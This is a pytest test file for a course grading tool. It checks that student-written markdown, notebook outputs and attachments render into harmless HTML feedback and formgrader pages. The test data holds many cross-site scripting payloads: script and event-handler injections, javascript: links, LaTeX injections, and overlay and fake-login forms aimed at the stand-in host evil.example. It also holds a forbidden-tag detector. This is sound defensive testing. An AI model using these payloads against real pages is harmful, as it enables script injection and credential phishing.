"""What students wrote, as feedback and formgrader show it: it runs nothing, loads nothing, and honest pages look as they did."""

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from time import process_time

import pytest
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from small_course import CONFIG
from small_notebooks import explanation
from traitlets.config import Config

import course_lib.outcomes
from course_lib.running.outputs import _bundle, harmless_metadata, new_output

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
ELSEWHERE = "evil.example"
EVIL = (
    f"\"><script>evil()</script><img src=x onerror=evil()><img src=https://{ELSEWHERE}/i.png><a href='javascript:evil()'>x</a>"
    f"<iframe src='//{ELSEWHERE}'></iframe><base href=https://{ELSEWHERE}><form action=https://{ELSEWHERE}><input></form>"
    f'<p style="cursor: url(https://{ELSEWHERE}/c), auto; background: url(https://{ELSEWHERE}/s)">x</p>'
    f"<svg onload=evil()><image href=https://{ELSEWHERE}/a /></svg><math href='javascript:evil()'><mtext><script>evil()</script></mtext></math>"
    "<a href='data:text/html,<script>evil()</script>'>x</a><a href=' jAvascript:evil()'>x</a><a href='//x' onclick=evil()>x</a>"
)
WRITTEN = {
    "html": EVIL,
    "link": "[x](javascript:evil()) [y](JaVaScRiPt:evil()) <javascript:evil()> [z](data:text/html;base64,AAAA)",
    "link-by-name": "[x][1]\n\n[1]: javascript:evil()",
    "picture": f"![x](https://{ELSEWHERE}/x.png) ![y](//{ELSEWHERE}/x.png) ![z][1]\n\n[1]: https://{ELSEWHERE}/z.png",
    "formula-style": rf"$\style{{background:url(https://{ELSEWHERE}/q)}}{{x}}$",
    "formula-link": r"$\href{javascript:evil()}{x}$",
    "formula-text": r"$\text{&lt;img src=x onerror=evil()&gt;}$ $\text{<img src=x onerror=evil()>}$ $\class{a\" onclick=\"evil()}{x}$",
    "formula-in-attribute": '![$x$](attachment:p "$\\text{onerror=evil() x}$") <b title="$\\text{&quot; onclick=evil()}$">x</b>',
    "code": '```html" onclick="evil()\n<script>evil()</script>\n```\n\n`<script>evil()</script>`',
    "mermaid": "```mermaid\n</pre><script>evil()</script>\n```",
    "overlay": '<a href="https://evil.example" style="position:fixed;inset:0;z-index:99;display:block;width:9999px;height:9999px">x</a>'
    '<div style="float:left;font-size:9999px;line-height:99;margin:-9999px;transform:scale(99)">x</div>',
    "overlay-by-class": '<a class="jp-OutputArea-promptOverlay modal fixed-top" href="https://evil.example">x</a>',
    "large-link": f'<a href="https://evil.example"><img width="99999" height="99999" src="data:image/png;base64,{PIXEL}"></a>',
    "login": '<form><input type="password"><button formaction="https://evil.example">Log in</button></form><label><textarea>x</textarea></label>',
    "blank-lines": "<pre>\n\n<script>evil()</script>\n\n</pre>\n\n<!--\n\n--><script>evil()</script>",
}
SHOWN = {
    "size": ({"image/png": PIXEL}, {"image/png": {"width": "1 onerror=evil() x", "height": "2"}}),
    "size-of-all": ({"image/png": PIXEL}, {"width": "1 onerror=evil() x"}),
    "file": ({"image/png": PIXEL}, {"filenames": {"image/png": f"https://{ELSEWHERE}/x.png"}}),
    "jpeg": ({"image/jpeg": EVIL}, {"image/jpeg": {"width": "1 onerror=evil() x"}}),
    "html": ({"text/html": EVIL}, {"isolated": True}),
    "markdown": ({"text/markdown": EVIL + "\n\n" + WRITTEN["link"] + WRITTEN["picture"] + WRITTEN["formula-style"]}, {}),
    "svg": ({"image/svg+xml": "<svg onload=evil()></svg>", "text/plain": "svg"}, {}),
    "script": ({"application/javascript": "evil()", "text/plain": "js"}, {}),
    "latex": ({"text/latex": EVIL}, {}),
    "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": EVIL}, "text/plain": "w"}, {}),
}


class Elements(HTMLParser):
    """The tags, attributes and text of the body of a page."""

    def __init__(self, page):
        super().__init__()
        self.elements, self.text = [], ""
        self.feed(page[page.index("<body") :])

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text += data

    @property
    def tags(self):
        return [tag for tag, _ in self.elements]

    def harm(self):
        """What runs something, or loads something from elsewhere."""
        forbidden = {"script", "iframe", "object", "embed", "base", "form", "style", "link", "input", "button", "textarea"}
        found = [tag for tag in self.tags if tag in forbidden]
        for tag, attributes in self.elements:
            for name, value in attributes.items():
                value = (value or "").strip().lower()
                loads = name not in ("href", "alt", "title") and ELSEWHERE in value and not value.startswith("data:image/")
                script = name == "href" and value.startswith(("javascript:", "data:"))
                taken = re.findall(
                    r"(?<![\w-])(position|z-index|inset|display|float|width|height|margin|transform|font-size)\s*:", value
                )
                covers = name == "style" and taken or name in ("width", "height") and tag == "img" and len(value) > 4
                if name.startswith("on") or loads or script or covers or name == "class" and "overlay" in value:
                    found.append((tag, name, value))
        return found


@pytest.fixture(scope="module")
def course_config(tmp_path_factory):
    from course_lib.grading.course import Course

    root = tmp_path_factory.mktemp("course")
    shutil.copy(CONFIG, root)
    return Course(root).app.config


@pytest.fixture(scope="module", params=["feedback", "formgrader"])
def page(request, course_config):
    """A notebook's page as students get it, and as nbgrader's formgrader makes it."""
    templates = str(Path(course_lib.outcomes.__file__).parent / "templates")
    config = Config(course_config)
    if request.param == "feedback":
        config.merge(Config({"HTMLExporter": {"template_name": "course_feedback", "extra_template_basedirs": [templates]}}))
    exporter = HTMLExporter(config=config)
    resources = {"nbgrader": {"notebook": "n", "score": 1, "max_score": 2, "late_penalty": 0}}

    def page(*cells):
        return Elements(exporter.from_notebook_node(new_notebook(cells=list(cells)), resources=resources)[0])

    # formgrader's own page has scripts
    page.own = page().harm()
    return page


def code_showing(data, metadata):
    output = new_output("display_data", data=_bundle(data), metadata=NotebookNode(metadata))
    return new_code_cell("x", outputs=[output])


@pytest.mark.parametrize("name", WRITTEN)
def test_what_a_student_wrote_is_harmless(page, name):
    attached = new_markdown_cell(WRITTEN[name], attachments={"p": {"image/png": PIXEL}})
    assert page(attached).harm() == page.own
    asked_for = explanation("why", WRITTEN[name])
    asked_for.metadata.nbgrader.update(score=1, comment="")
    assert page(asked_for).harm() == page.own


@pytest.mark.parametrize("name", SHOWN)
def test_what_a_students_code_showed_is_harmless(page, name):
    assert page(code_showing(*SHOWN[name])).harm() == page.own


@pytest.mark.parametrize(
    "attachments",
    [
        {"p": {"image/png": 'AA" onerror="evil()'}},
        {'p" onerror="evil()': {"image/png": PIXEL}},
        {"p": {'image/png" onerror="evil()': PIXEL}},
        {"p": {}},
        {"p": {"image/png": ["A"]}},
        {},
    ],
)
def test_attachments_of_any_shape_are_harmless_and_leave_a_page(page, attachments):
    cell = new_markdown_cell("before ![x](attachment:p) <img src='attachment:p'> after")
    cell["attachments"] = NotebookNode(attachments)
    shown = page(cell)
    assert shown.harm() == page.own and "before" in shown.text and "after" in shown.text


def test_what_students_honestly_write_looks_as_written(page):
    text = (
        "# Title\n\nIt *converges* for $\\eta < 2 / L$, as `a < b` and 3 < 4:\n\n- one\n- two\n\n"
        "$$ w_{t+1} = w_t - \\eta \\nabla f(w_t) $$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nif a:\n\n    b = 'c'\n```\n\n"
        "[the book](https://book.example/x.html) <b>bold</b> ![drawing](attachment:p.png)"
    )
    shown = page(new_markdown_cell(text, attachments={"p.png": {"image/png": PIXEL}}))
    assert {"h1", "em", "code", "li", "table", "td", "pre", "b", "math"} <= set(shown.tags)
    assert [attributes["display"] for tag, attributes in shown.elements if tag == "math"] == ["inline", "block"]
    assert ("a", "https://book.example/x.html") in [(tag, attributes.get("href")) for tag, attributes in shown.elements]
    assert f"data:image/png;base64,{PIXEL}" in [attributes.get("src") for _, attributes in shown.elements]
    assert "a < b" in shown.text and "3 < 4" in shown.text and "if a:\n\n    b = 'c'" in shown.text
    assert "η" in shown.text and "∇" in shown.text


def test_a_picture_keeps_its_size(page):
    sizes = {"image/png": {"width": 320, "height": 200.5}}
    shown = page(code_showing({"image/png": PIXEL}, sizes))
    [picture] = [attributes for tag, attributes in shown.elements if tag == "img"]
    assert (picture["width"], picture["height"], picture["src"]) == ("320", "200.5", f"data:image/png;base64,{PIXEL}")


def test_markdown_that_code_shows_is_rendered(page):
    shown = page(code_showing({"text/markdown": "**bold** $x^2$", "text/plain": "<Markdown>"}, {}))
    assert {"strong", "msup"} <= set(shown.tags)


@pytest.mark.parametrize("metadata", [7, "x", [], {"image/png": 7}, {"image/png": {"width": float("nan"), "height": True}}])
def test_metadata_of_any_shape_leave_a_page(page, metadata):
    assert harmless_metadata(metadata) in ({}, {"image/png": {}})
    if isinstance(metadata, dict):
        assert "img" in page(code_showing({"image/png": PIXEL}, metadata)).tags


LONG = {
    "elements": "<div>" * 20_000,
    "elements-left-open": "<b>x" * 20_000,
    "quotes": ">" * 50_000,
    "brackets": "[" * 40_000,
    "brackets-without-number": "[" * 200_000,
    "braces": "$" + "{" * 3000 + "}" * 3000 + "$",
    "environments": r"\begin{a}" * 20_000,
}


@pytest.mark.parametrize("name", LONG)
def test_a_text_made_to_take_long_is_shown_in_little_time(page, name):
    def show(text):
        begun = process_time()
        shown = page(new_markdown_cell("first\n\n" + text), code_showing({"text/html": text}, {}))
        assert "first" in shown.text
        return process_time() - begun

    honest = "A *word* of it, some `code` and $x^2$.\n" * 2500
    # with time that grows with the square it would be thousands of times as much
    assert show(LONG[name]) < 100 * max(show(honest) for _ in range(3))
